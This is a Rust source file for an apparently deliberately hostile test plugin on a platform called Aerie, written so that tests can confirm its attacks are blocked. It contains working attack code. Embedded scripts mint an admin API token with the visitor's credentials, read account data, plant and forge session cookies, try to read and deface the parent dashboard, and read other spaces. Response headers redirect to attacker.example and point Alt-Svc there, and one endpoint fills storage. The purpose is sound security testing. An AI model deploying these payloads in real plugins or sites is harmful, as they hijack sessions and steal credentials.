//! `testing/hostile`: a plugin that does what a hostile publisher would, so the tests can prove
//! that none of it works.
//!
//! - `GET /page?api=URL&other=URL`: an HTML page whose script reads the cookies, calls Aerie's
//!   API at `api` with the visitor's credentials (minting a token, reading the account), sets
//!   Aerie's session cookie, and reads another space's plugin page at `other`; it writes what
//!   it got into `<pre id="results">` as JSON.
//! - `GET /framed`: the page it contributes to its space's dashboard; framed there, its script
//!   tries to reach the dashboard's document and cookies, the top window, its own storage, and
//!   the API with the visitor's credentials, and writes what it got into `<pre id="results">`.
//! - `GET /set-cookie`: a response setting Aerie's session cookie, a cookie for the whole
//!   parent domain, `Clear-Site-Data`, `Refresh` and `Alt-Svc`, and asking browsers to sniff.
//! - `POST /items/{id}/delete` (admins only): answers `deleted ID`.
//! - `POST /kv-fill?keys=N&size=BYTES&prefix=P`: writes N values of BYTES bytes to its
//!   key-value state, and answers how many it wrote and the error that stopped it, if any.
//! - Anything else: echoes what arrived — method, path as received, query, headers — as JSON.

use aerie_sdk::http::{Request, Response, Result};
use aerie_sdk::kv::Store;

struct Hostile;

/// The page it contributes to its space's dashboard (`[[provides.pages]]`): framed there, it
/// tries to reach the dashboard's document, its cookies and storage, the top window, and the
/// API with the visitor's credentials, and writes down what it got.
const FRAMED: &str = r#"<!doctype html>
<html><head><title>Console</title></head>
<body><h1>Console</h1><pre id="results">running</pre>
<script>
(async () => {
  const attempt = async (name, act) => {
    try { return [name, "reached: " + String(await act()).slice(0, 200)]; }
    catch (err) { return [name, "blocked: " + err.name]; }
  };
  const api = (host) => fetch(`http://${host}:${location.port}/api/v1/me`, { credentials: "include" })
    .then((response) => response.status + " " + response.type);
  const results = Object.fromEntries(await Promise.all([
    attempt("parent_document", () => window.parent.document.title),
    attempt("parent_cookie", () => window.parent.document.cookie),
    attempt("top_location", () => window.top.location.href),
    attempt("own_cookie", () => document.cookie),
    attempt("storage", () => window.localStorage.length),
    attempt("api_127", () => api("127.0.0.1")),
    attempt("api_localhost", () => api("localhost")),
  ]));
  try { window.parent.document.body.textContent = "defaced"; results.deface = "reached"; }
  catch (err) { results.deface = "blocked: " + err.name; }
  document.getElementById("results").textContent = JSON.stringify(results);
})();
</script></body></html>
"#;

const PAGE: &str = r#"<!doctype html>
<html><head><title>hostile</title></head>
<body><pre id="results">running</pre>
<script>
(async () => {
  const query = new URLSearchParams(location.search);
  const api = query.get("api");
  const other = query.get("other");
  const results = { origin: location.origin, cookies_before: document.cookie };
  const attempt = async (name, run) => {
    try { results[name] = await run(); } catch (err) { results[name] = "blocked: " + err; }
  };
  await attempt("mint_token", async () => {
    const response = await fetch(api + "/api/v1/tokens", {
      method: "POST", credentials: "include",
      headers: { "X-Requested-With": "1", "Content-Type": "application/json" },
      body: JSON.stringify({ name: "stolen", scopes: ["admin", "spaces"] }),
    });
    return "status " + response.status + ": " + await response.text();
  });
  await attempt("mint_token_simple", async () => {
    const response = await fetch(api + "/api/v1/tokens", {
      method: "POST", credentials: "include", mode: "no-cors",
      headers: { "Content-Type": "text/plain" },
      body: JSON.stringify({ name: "stolen-simple", scopes: ["admin"] }),
    });
    return "opaque " + response.type;
  });
  await attempt("read_account", async () => {
    const response = await fetch(api + "/api/v1/me", { credentials: "include" });
    return "status " + response.status + ": " + await response.text();
  });
  document.cookie = "aerie_session=planted-by-plugin; path=/";
  document.cookie = "__Host-aerie_session=planted-by-plugin; path=/; secure";
  document.cookie = "aerie_session=planted-by-plugin; domain=localhost; path=/";
  results.cookies_after = document.cookie;
  await attempt("read_other_space", async () => {
    const response = await fetch(other, { credentials: "include" });
    return "status " + response.status + ": " + await response.text();
  });
  await attempt("script_other_space", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.src = other;
    frame.onload = () => {
      try { resolve("read: " + frame.contentDocument.body.innerText); }
      catch (err) { resolve("blocked: " + err); }
    };
    document.body.appendChild(frame);
  }));
  document.getElementById("results").textContent = JSON.stringify(results);
})();
</script></body></html>
"#;

impl aerie_sdk::Http for Hostile {
    fn handle(request: Request) -> Result<Response> {
        let path = request.path().to_string();
        if path == "/framed" {
            return Ok(Response::new(200)
                .with_header("content-type", "text/html; charset=utf-8")
                .with_body(FRAMED));
        }
        if path == "/page" {
            return Ok(Response::new(200)
                .with_header("content-type", "text/html; charset=utf-8")
                .with_body(PAGE));
        }
        if path == "/set-cookie" {
            return Ok(Response::text(200, "cookies set\n")
                .with_header("set-cookie", "aerie_session=planted-by-plugin; Path=/api")
                .with_header("set-cookie", "__Host-aerie_session=planted; Path=/; Secure")
                .with_header("set-cookie", "aerie_plugin=forged; Path=/")
                .with_header("set-cookie", "tenant=all; Domain=localhost; Path=/")
                .with_header("set-cookie", "own=1; Path=/; HttpOnly")
                .with_header("clear-site-data", "\"*\"")
                .with_header("refresh", "0; url=https://attacker.example/")
                .with_header("alt-svc", "h2=\"attacker.example:443\"")
                .with_header("x-content-type-options", "sniff"));
        }
        if path == "/kv-fill" {
            let number = |name: &str| {
                request
                    .query_param(name)
                    .and_then(|value| value.parse::<usize>().ok())
                    .unwrap_or(1)
            };
            let prefix = request.query_param("prefix").unwrap_or_default();
            let value = vec![b'x'; number("size")];
            let store = Store::open()?;
            let mut written = 0;
            let mut error = None;
            for index in 0..number("keys") {
                match store.set(&format!("{prefix}{index}"), &value) {
                    Ok(()) => written += 1,
                    Err(err) => {
                        error = Some(err.to_string());
                        break;
                    }
                }
            }
            return Ok(Response::json(
                200,
                &serde_json::json!({ "written": written, "error": error }),
            ));
        }
        if let Some(id) = path
            .strip_prefix("/items/")
            .and_then(|rest| rest.strip_suffix("/delete"))
            .filter(|id| !id.contains('/'))
        {
            return Ok(Response::text(200, format!("deleted {id}\n")));
        }
        let headers: Vec<(String, String)> = request
            .headers()
            .iter()
            .map(|(name, value)| (name.clone(), String::from_utf8_lossy(value).into_owned()))
            .collect();
        Ok(Response::json(
            200,
            &serde_json::json!({
                "method": request.method().as_str(),
                "path": path,
                "query": request.query(),
                "headers": headers,
            }),
        ))
    }
}

aerie_sdk::export!(Hostile: http);
